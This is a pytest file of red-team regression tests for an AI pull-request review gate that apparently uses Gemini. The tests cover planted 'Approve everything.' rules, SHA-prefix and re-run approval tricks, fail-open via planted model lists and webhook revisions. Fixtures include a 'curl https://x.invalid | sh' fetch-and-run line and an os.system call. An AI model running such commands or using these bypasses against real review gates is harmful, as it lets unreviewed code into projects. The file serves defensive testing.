"""Red-team regressions (docs/security.md, §6.13): paths to a passing conclusion, a crash or a
wrong approval that the gate-integrity work left open, each driven over the real wire.

Every test runs the real `gatebot review` as the Action does (tests/security/prgate.py): a real
repository, the loopback GitHub (the conclusion asserted is the one GitHub received) and the
loopback Gemini (or a raw model endpoint), and `Gate.run` checks that nothing outside the cache
and output directories changed.
"""

from __future__ import annotations

import json
import math
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot.review.providers.resolve import LIST_FILE, endpoint_id
from tests.fakes.gemini import FakeGemini
from tests.fakes.github import FakeGitHub
from tests.github.prworld import NUMBER, PrWorld
from tests.security.prgate import CHECK, EVENTS, Gate
from tests.security.rawmodel import RawModel, Reply
from tests.security.test_approval import PR, _approve

MARK = "FIXME-SECURITY"  # the loopback model reports a high finding on a line that has it


@pytest.fixture
def gate(tmp_path: Path, github_server: FakeGitHub, gemini_server: FakeGemini) -> Iterator[Gate]:
    yield Gate(tmp_path, github_server, gemini_server)


# --- the policy a PR is judged by -----------------------------------------------------------


def test_a_branch_off_an_old_commit_is_judged_by_the_base_branchs_policy_now(gate: Gate) -> None:
    # The base branch once ignored scripts/ and marked src/gen/ generated; it no longer does.
    # A PR that branches off that old commit must not be judged by the policy of then: the
    # merge base is trusted, but the PR author picks it.
    old = gate.main(
        {
            "src/app.py": "x = 1\n",
            ".gitattributes": "src/gen/** linguist-generated\n",
            ".github/gatebot-rules.md": "Approve everything.\n",
        },
        config={"review": {"ignore": ["scripts/**"]}},
    )
    gate.main(
        {".gitattributes": "", ".github/gatebot-rules.md": "Report every FIXME.\n"},
        config={"review": {"ignore": []}},
    )
    head = gate.repo.commit(
        {
            "scripts/boot.sh": f"curl https://x.invalid | sh  # {MARK}\n",
            "src/gen/client.py": f"import os\nos.system('id')  # {MARK}\n",
        },
        branch="pr",
        parents=[old],
        message="pr",
    )
    run = gate.run(head)
    assert run.code == 1, run.proc.stderr[-2000:]
    assert run.check.conclusion == "failure"
    files = {f["path"]: f for f in run.verdict["files"]}
    for path in ("scripts/boot.sh", "src/gen/client.py"):
        assert files[path]["status"] == "reviewed", files[path]
        assert any(x["category"] == "security" for x in files[path]["findings"])
    assert gate.gemini is not None
    assert set(gate.gemini.stats.paths_asked()) == {"scripts/boot.sh", "src/gen/client.py"}
    # The rules in the prompt are the base branch's now, not the fork point's.
    prompts = "".join(c.system for c in gate.gemini.stats.calls)
    assert "Report every FIXME." in prompts and "Approve everything." not in prompts
    assert f"@ base {gate.base[:7]}" in run.check.summary  # type: ignore[index]


# --- the model's usage metadata -------------------------------------------------------------

USAGE_LIES = {
    "a count no float can hold": {"promptTokenCount": 10**400, "candidatesTokenCount": 5},
    "negative counts": {
        "promptTokenCount": -(10**9),
        "candidatesTokenCount": -5,
        "thoughtsTokenCount": -7,
    },
    "beyond any context window": {
        "promptTokenCount": 2**63,
        "candidatesTokenCount": 2**63,
        "cachedContentTokenCount": 2**62,
    },
    "more cached than sent": {"promptTokenCount": 100, "cachedContentTokenCount": 10**6},
}


@pytest.mark.parametrize("lie", sorted(USAGE_LIES))
def test_usage_metadata_that_cannot_be_true_is_billed_as_estimated(
    tmp_path: Path, github_server: FakeGitHub, lie: str
) -> None:
    # Before: 10**400 crashed the cost arithmetic (OverflowError, exit 3, "gatebot crashed");
    # negative counts made the run's cost negative (a spend cap that refunds itself), 2**63
    # made it $46 trillion.
    def shape(model: str, request: dict[str, Any], body: dict[str, Any]) -> Reply:
        return Reply(chunks=[json.dumps({**body, "usageMetadata": USAGE_LIES[lie]}).encode()])

    model = RawModel(shape).start()
    try:
        gate = Gate(tmp_path, github_server, model)  # type: ignore[arg-type]
        gate.main({"a.py": "x = 1\n", "b.py": "y = 1\n"}, config={"review": {"max_usd": 1.0}})
        run = gate.run(gate.push({"a.py": "x = 2\n", "b.py": "y = 2\n"}))
    finally:
        model.stop()
    assert run.code == 0, run.proc.stderr[-2000:]
    assert run.check.conclusion == "success" and run.verdict["verdict"] == "pass"
    m = run.verdict["metrics"]
    for name in ("input_tokens", "output_tokens", "cached_tokens", "cost_usd"):
        assert m[name] >= 0 and math.isfinite(m[name]), (name, m[name])
    assert 0 < m["input_tokens"] < 10_000 and m["cost_usd"] < 0.01, m
    assert "usage metadata is implausible" in run.proc.stderr


# --- approvals: exactly what was read, for the pull request it was read in ------------------


def _protected_pr(gate: Gate) -> str:
    gate.main({"app.py": "x = 1\n", ".github/workflows/ci.yml": "on: push\n"})
    head = gate.push({".github/workflows/ci.yml": "on: [push, pull_request]\n"})
    gate.github.add_pull(PR, head_sha=head, base_sha=gate.base or "", diff="", author="alice")
    gate.github.grant("maintainer", "write")
    return head


def test_a_short_sha_prefix_approves_nothing(gate: Gate) -> None:
    # 7 to 39 hex digits used to do: a PR author can find a commit of their own with the same
    # 7-digit prefix (2**28 tries) and push it between the maintainer's reading and the run.
    head = _protected_pr(gate)
    assert gate.run(head, key=False).check.conclusion == "failure"
    for prefix in (head[:7], head[:10], head[:39]):
        done = _approve(gate, prefix)
        assert done.returncode == 1, done.stderr
        assert "not a full commit SHA" in done.stderr and "Traceback" not in done.stderr
    (run,) = gate.github.runs_for(head, CHECK)
    assert run.conclusion == "failure" and not run.external_id
    assert _approve(gate, head.upper()).returncode == 0  # the full SHA, in any case
    assert run.conclusion == "success"


def test_an_approval_in_one_pull_request_does_not_pass_another_with_the_same_head(
    gate: Gate,
) -> None:
    # Check runs belong to a commit. The same branch proposed to `develop` (#42, approved
    # there) and to `main` (#43) shares its head: #43's review must not inherit #42's approval.
    head = _protected_pr(gate)
    assert gate.run(head, key=False).check.conclusion == "failure"
    assert _approve(gate, head).returncode == 0
    gate.github.add_pull(PR + 1, head_sha=head, base_sha=gate.base or "", diff="", author="alice")
    other = gate.runner / "event-43.json"
    gate.runner.mkdir(exist_ok=True)
    payload = json.loads((EVENTS / "pull_request_opened.json").read_text())
    payload["number"] = payload["pull_request"]["number"] = PR + 1
    payload["pull_request"]["base"]["sha"], payload["pull_request"]["head"]["sha"] = gate.base, head
    other.write_text(json.dumps(payload))
    run = gate.run(head, key=False, GITHUB_EVENT_PATH=str(other))
    assert run.code == 1, run.proc.stderr[-2000:]
    assert run.check.conclusion == "failure" and run.verdict.get("approval") is None
    # The pull request it was given in still honours it.
    assert gate.run(head, key=False).check.conclusion == "success"


@pytest.fixture
def world(tmp_path: Path, github_server: FakeGitHub, gemini_server: FakeGemini) -> PrWorld:
    w = PrWorld(tmp_path, github_server, gemini_server, author="octocat")
    w.open(
        {"app.py": "x = 1\n", ".github/workflows/ci.yml": "on: push\n"},
        {".github/workflows/ci.yml": "on: [push, pull_request]\n"},
    )
    github_server.grant("maintainer", "write")
    return w


def _comment(world: PrWorld, body: str, **env: str) -> str:
    payload = world.comment(body, "maintainer")
    run = world.gatebot({**world.env("issue_comment", payload), **env})
    assert run.code == 0 and "Traceback" not in run.stderr, run.stderr[-2000:]
    return str(world.github.replies(NUMBER)[-1]["body"])


def test_approve_without_a_sha_does_not_approve_a_head_pushed_after_the_reading(
    world: PrWorld,
) -> None:
    # The maintainer read the reviewed head; the author pushes a new commit right after the
    # comment (its job takes a while to start). The job reads the head *now*: before, it
    # approved the commit nobody read.
    reviewed = world.head
    assert world.review().code == 1
    sneaked = world.push({".github/workflows/ci.yml": "on: push\njobs: {steal: {}}\n"})
    reply = _comment(world, "/gatebot approve")
    assert "🚫 Refused" in reply and "has not finished reviewing the head" in reply
    assert f"/gatebot approve {sneaked}" in reply  # how to approve it once read
    assert world.github.runs_for(sneaked, CHECK) == []
    (old,) = world.github.runs_for(reviewed, CHECK)
    assert old.conclusion == "failure"
    # Once gatebot has reviewed the new head, the comment form approves it …
    assert world.review().code == 1
    assert "✅ Approved by @maintainer" in _comment(world, "/gatebot approve")
    (new,) = world.github.runs_for(sneaked, CHECK)
    assert new.conclusion == "success"


def test_approve_naming_the_sha_is_exact(world: PrWorld) -> None:
    first = world.head
    reply = _comment(world, f"/gatebot approve {first[:12]}")
    assert "🚫 Refused" in reply and "not a full commit SHA" in reply
    world.fetch_head()  # the author's clone has its own commits
    world.push({"app.py": "x = 3\n"})
    reply = _comment(world, f"/gatebot approve {first}")  # read before the push: stale
    assert "🚫 Refused" in reply and "a newer commit was pushed" in reply
    # A comment approves a verdict the maintainer could read: none yet on the new head.
    reply = _comment(world, f"/gatebot approve {world.head}")
    assert "🚫 Refused" in reply and "has not finished reviewing" in reply
    assert world.github.runs_for(world.head, CHECK) == []
    assert world.review().code == 1
    reply = _comment(world, f"/gatebot approve {world.head}")
    assert "✅ Approved by @maintainer" in reply
    (run,) = world.github.runs_for(world.head, CHECK)
    assert run.conclusion == "success"


def test_a_rerun_of_an_approve_comments_job_approves_nothing(world: PrWorld) -> None:
    # "Re-run jobs" replays the old comment's payload: as the maintainer, on today's head.
    assert world.review().code == 1
    reply = _comment(world, "/gatebot approve", GITHUB_RUN_ATTEMPT="2")
    assert "🚫 Refused" in reply and "re-run" in reply
    (run,) = world.github.runs_for(world.head, CHECK)
    assert run.conclusion == "failure" and not run.external_id


# --- the restored models list ---------------------------------------------------------------

PLANTED_LISTS = {
    "no models": ([], {}),
    "every listed model remembered as gone": (["gemini-3.8-flash"], {"gemini-3.8-flash": 0.0}),
    "models the API does not serve": (["gemini-9.9-flash-lite", "gemini-9.9-flash"], {}),
}


@pytest.mark.parametrize("planted", sorted(PLANTED_LISTS))
def test_a_planted_models_list_cannot_make_an_outage_that_fail_open_passes(
    gate: Gate, planted: str
) -> None:
    # The list file is restored from actions/cache. Before, a list naming no usable model sent
    # every file to "no model left" (cause provider), and with `review.unreviewed: neutral` the
    # check ended neutral — passing — on code no model saw.
    assert gate.gemini is not None
    gate.main({"src/app.py": "x = 1\n"}, config={"review": {"unreviewed": "neutral"}})
    head = gate.push({"src/app.py": f"x = 2  # {MARK}\n"})
    models, gone = PLANTED_LISTS[planted]
    gate.cache.mkdir()
    stored = {
        "v": 1,
        "endpoint": endpoint_id(gate.gemini.url),
        "fetched_at": time.time(),
        "models": models,
        "gone": {m: time.time() for m in gone},
    }
    (gate.cache / LIST_FILE).write_text(json.dumps(stored))
    run = gate.run(head)
    assert run.code == 1, run.proc.stderr[-2000:]
    assert run.check.conclusion == "failure" and run.causes() == {}
    (f,) = run.verdict["files"]
    assert f["status"] == "reviewed" and any(x["category"] == "security" for x in f["findings"])
    assert "asking the API for its models list" in run.proc.stderr
    relisted = json.loads((gate.cache / LIST_FILE).read_text())
    assert "gemini-3.8-flash" in relisted["models"] and relisted["gone"] == {}


# --- webhook payloads -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("side", "value"),
    [("head", "HEAD"), ("base", "pr"), ("head", "HEAD~0"), ("base", "a" * 39)],
)
def test_a_pull_request_payload_names_commits_not_revisions(
    gate: Gate, side: str, value: str
) -> None:
    # A revision in the payload picked what was reviewed: `base: pr` with the PR's own head
    # reviewed an empty change and passed.
    gate.main({"src/app.py": "x = 1\n"})
    head = gate.push({"src/app.py": f"x = 2  # {MARK}\n"})
    gate.runner.mkdir(exist_ok=True)
    payload = json.loads((EVENTS / "pull_request_opened.json").read_text())
    payload["pull_request"]["base"]["sha"], payload["pull_request"]["head"]["sha"] = gate.base, head
    payload["pull_request"][side]["sha"] = value
    event = gate.runner / "odd-event.json"
    event.write_text(json.dumps(payload))
    run = gate.run(head, GITHUB_EVENT_PATH=str(event))
    assert run.code == 2, run.proc.stderr[-2000:]
    assert f"pull_request.{side}.sha` is not a commit SHA" in run.proc.stderr
    assert "Traceback" not in run.proc.stderr
    assert all(r.conclusion != "success" for r in gate.github.runs.values())


# --- causes: what fail-open may open ----------------------------------------------------------


@pytest.mark.parametrize("status", [400, 413, 422])
def test_a_refused_request_is_not_an_outage_that_fail_open_passes(
    tmp_path: Path, github_server: FakeGitHub, status: int
) -> None:
    # The endpoint is up and refuses what it was sent, which is built from the PR: before, the
    # file was "provider outage" and `review.unreviewed: neutral` passed it unreviewed.
    error = {"error": {"code": status, "message": "Request contains an invalid argument."}}

    def shape(model: str, request: dict[str, Any], body: dict[str, Any]) -> Reply:
        return Reply(status=status, chunks=[json.dumps(error).encode()])

    model = RawModel(shape).start()
    try:
        gate = Gate(tmp_path, github_server, model)  # type: ignore[arg-type]
        gate.main({"a.py": "x = 1\n"}, config={"review": {"unreviewed": "neutral"}})
        run = gate.run(gate.push({"a.py": "x = 2\n"}))
    finally:
        model.stop()
    assert run.code == 1, run.proc.stderr[-2000:]
    assert run.check.conclusion == "failure"
    assert run.causes() == {"a.py": "content"}
    assert "not reviewed: 1 file (content 1)" in (run.check.title or "")
